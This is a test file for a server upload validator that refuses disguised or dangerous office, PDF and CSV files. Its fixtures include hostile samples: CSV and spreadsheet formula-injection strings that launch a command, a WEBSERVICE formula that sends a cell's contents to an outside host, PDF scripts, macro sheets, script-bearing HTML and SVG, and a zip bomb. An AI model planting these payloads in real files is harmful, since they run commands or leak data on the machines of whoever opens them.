import { readdirSync, readFileSync } from 'node:fs'
import { utils, write } from '@e965/xlsx'
import { describe, expect, test } from 'vitest'
import { fileLimits, overLimit } from '#contract/limits.ts'
import { linksOf, sheetTypes, xlsxWith } from '#server/testing/documents/active-office-files.ts'
import { pdfOf } from '#server/testing/documents/pdf-files.ts'
import { type Part, zipOf } from '#server/testing/workbooks/workbook-parts.ts'

import { pdf, resourceRequests } from './testing/resource-requests.ts'

const resources = resourceRequests()
const { upload, list, remove, storedFiles } = resources

const demoFiles = new URL('../../../../library/resources/', import.meta.url)

describe('the content of a resource', () => {
  const types = (main: string): Part => ({
    name: '[Content_Types].xml',
    content: `<Types><Override ContentType="application/vnd.openxmlformats-officedocument.${main}"/></Types>`,
  })
  const word = types('wordprocessingml.document.main+xml')
  const document: Part = { name: 'word/document.xml', content: '<document/>' }
  const another = /^This file is not actually an? .+\. Save it in that format, or rename it/

  test.each<[string, string, Uint8Array, RegExp]>([
    ['no bytes', 'pdf', Buffer.alloc(0), /^This file is empty/],
    ['HTML named as a PDF', 'pdf', Buffer.from('<html><script>alert(1)</script>'), another],
    ['a PDF named as a document', 'docx', pdf, another],
    ['a document named as a workbook', 'xlsx', zipOf([word, document]), another],
    ['a workbook named as a presentation', 'pptx', zipOf([types('spreadsheetml.sheet.main+xml')]), another],
    ['a zip of other files named as a document', 'docx', zipOf([{ name: 'a.txt', content: 'a' }]), another],
    ['a PDF named as a table', 'csv', pdf, another],
    ['HTML named as a table', 'csv', Buffer.from('<html><script>alert(1)</script>'), another],
    [
      'a picture with a script named as a table',
      'csv',
      Buffer.from('\ufeff<svg onload="alert(1)"/>'),
      another,
    ],
    ['a table with a NUL character', 'csv', Buffer.from(`a;b\n${'x'.repeat(200_000)}\0`), another],
    [
      'macros',
      'docx',
      zipOf([word, document, { name: 'word/vbaProject.bin', content: 'x' }]),
      /^This file contains macros \(word\/vbaProject\.bin\)\. Save it without this and upload it again\.$/,
    ],
    ['a script', 'pdf', pdfOf('<</S/JavaScript/JS(x)>>'), /^This file contains a script \(object 1\)\./],
    ['a program before its header', 'pdf', Buffer.concat([Buffer.from('MZ'), pdf]), another],
    [
      'a macro sheet of another name',
      'xlsx',
      xlsxWith('', sheetTypes({ '/xl/worksheets/sheet9.xml': 'application/vnd.ms-excel.macrosheet+xml' }), {
        name: 'xl/worksheets/sheet9.xml',
        content: '<xm:macrosheet/>',
      }),
      /contains a macro sheet \(xl\/worksheets\/sheet9\.xml\)/,
    ],
    [
      'a macro sheet by its relationship alone',
      'xlsx',
      xlsxWith(
        '',
        sheetTypes(),
        linksOf('xl/sheets.xml', [
          {
            type: 'http://schemas.microsoft.com/office/2006/relationships/xlIntlMacrosheet',
            target: 'a.xml',
          },
        ]),
        { name: 'xl/a.xml', content: '<xm:macrosheet/>' },
      ),
      /contains a macro sheet \(xl\/a\.xml\)/,
    ],
    [
      'a DDE link',
      'xlsx',
      xlsxWith('', sheetTypes(), {
        name: 'xl/externalLinks/externalLink1.xml',
        content: '<externalLink><x:ddeLink ddeService="cmd" ddeTopic="/C calc"/></externalLink>',
      }),
      /contains a DDE link \(xl\/externalLinks\/externalLink1\.xml\)/,
    ],
    [
      'a formula with DDE',
      'xlsx',
      xlsxWith(`<row><c><f>cmd&#124;'/C calc'!A0</f></c></row>`, sheetTypes()),
      /contains a formula with DDE \(xl\/worksheets\/sheet1\.xml\)/,
    ],
    [
      'a formula that sends what is in a cell',
      'xlsx',
      xlsxWith('<row><c><f>_xlfn.WEBSERVICE("http://outside.example/"&amp;A1)</f></c></row>', sheetTypes()),
      /contains a formula that loads from elsewhere/,
    ],
    [
      'a link to a workbook on the web, and a connection',
      'xlsx',
      xlsxWith(
        '',
        sheetTypes(),
        linksOf('xl/externalLinks/externalLink1.xml', [
          { type: 'externalLinkPath', target: 'https://outside.example/a.xlsx', external: true },
        ]),
        {
          name: 'xl/connections.xml',
          content: '<connections><connection refreshOnLoad="1"/></connections>',
        },
      ),
      /contains a link to a workbook elsewhere \(.+\) and a connection that loads data when it is opened \(/,
    ],
    [
      'a program behind a picture',
      'pptx',
      zipOf([
        types('presentationml.presentation.main+xml'),
        { name: 'ppt/presentation.xml', content: '<p:presentation/>' },
        { name: 'ppt/slides/slide1.xml', content: '<a:hlinkClick action="ppaction://program"/>' },
      ]),
      /contains an action that starts a program \(ppt\/slides\/slide1\.xml\)/,
    ],
    [
      'a formula that starts a program',
      'csv',
      Buffer.from(`a,b\r\n1,"=2+5+cmd|' /C calc'!A0"\r\n`),
      /contains a formula with DDE \(line 2\)/,
    ],
    [
      'such a formula in UTF-16',
      'csv',
      Buffer.from(`\ufeff@cmd|' /C calc'!A0;2`, 'utf16le'),
      /contains a formula with DDE \(line 1\)/,
    ],
    ['a PDF cut short', 'pdf', pdf.subarray(0, -2), /damaged or incomplete/],
    ['a document cut short', 'docx', zipOf([word, document]).subarray(0, -30), /damaged or incomplete/],
    [
      'a zip bomb',
      'docx',
      zipOf([word, { name: 'word/document.xml', content: `<a>${' '.repeat(9_000_000)}</a>` }]),
      /compressed in an unusual way/,
    ],
    [
      'a wrong size in its directory',
      'docx',
      zipOf([word, { ...document, claims: 2 }]),
      /compressed in an unusual way/,
    ],
    [
      'XML entities',
      'docx',
      zipOf([word, { ...document, content: '<!DOCTYPE a [<!ENTITY b "c">]><a/>' }]),
      /compressed in an unusual way/,
    ],
  ])('with %s is refused', async (_, type, file, message) => {
    const answer = await upload(`1~Letter.${type}`, file)
    expect(answer.json()).toMatchObject({ statusCode: 422, code: 'validation_failed' })
    expect(answer.json().message).toMatch(message)
    expect(await list()).toEqual([])
  })

  test('over the limit is refused with the limit in the sentence', async () => {
    const answer = await upload('1~Large.pdf', Buffer.alloc(fileLimits.resource + 1, '%PDF-'))
    expect(answer.json()).toMatchObject({
      statusCode: 413,
      code: 'too_large',
      message: `The file ${overLimit(fileLimits.resource)}`,
    })
  })

  test('is accepted in the format of its file name, whatever program wrote it', async () => {
    const office = readdirSync(demoFiles).filter((name) => /^\d+~.+\.(docx|xlsx|pptx|pdf|csv)$/.test(name))
    expect(office.length).toBeGreaterThan(0)
    for (const name of office) {
      const answer = await upload(name, readFileSync(new URL(encodeURIComponent(name), demoFiles)))
      expect(answer.json(), name).toEqual({ fileKey: `template-resources/${name}` })
    }
    const harmless = xlsxWith(
      `<row><c><f>IF('a|b'!A1="c|d",IMAGESUM(1),1)</f></c></row>`,
      sheetTypes(),
      linksOf('xl/externalLinks/externalLink1.xml', [
        { type: 'externalLinkPath', target: 'file:///C:\\Data\\Last%20year.xlsx', external: true },
      ]),
      linksOf('xl/worksheets/sheet1.xml', [
        { type: 'hyperlink', target: 'https://outside.example/', external: true },
      ]),
      { name: 'xl/connections.xml', content: '<connections><connection refreshOnLoad="0"/></connections>' },
    )
    expect((await upload('7~Costs.xlsx', harmless)).statusCode).toBe(201)
    // SheetJS, with which many programs write, names a type of macros for an ending that no part has.
    const book = utils.book_new()
    utils.book_append_sheet(book, utils.aoa_to_sheet([['Month', 'Cost']]))
    const written = write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer
    expect((await upload('7~Written by a program.xlsx', written)).statusCode).toBe(201)
    const answers = Buffer.from('q,a\n-5 | low,yes!\n@home|away,"=SUM(1)"\nx,a|b!\n')
    expect((await upload('7~Answers.csv', answers)).statusCode).toBe(201)
    const table = await upload('7~Ergebnisse Übersicht.csv', Buffer.from('Name;Größe\nÄnne;1\n', 'latin1'))
    expect(table.json()).toEqual({ fileKey: 'template-resources/7~Ergebnisse Übersicht.csv' })
    for (const { id } of await list()) expect((await remove(id)).statusCode).toBe(204)
    expect(await storedFiles()).toBe(0)
  })
})
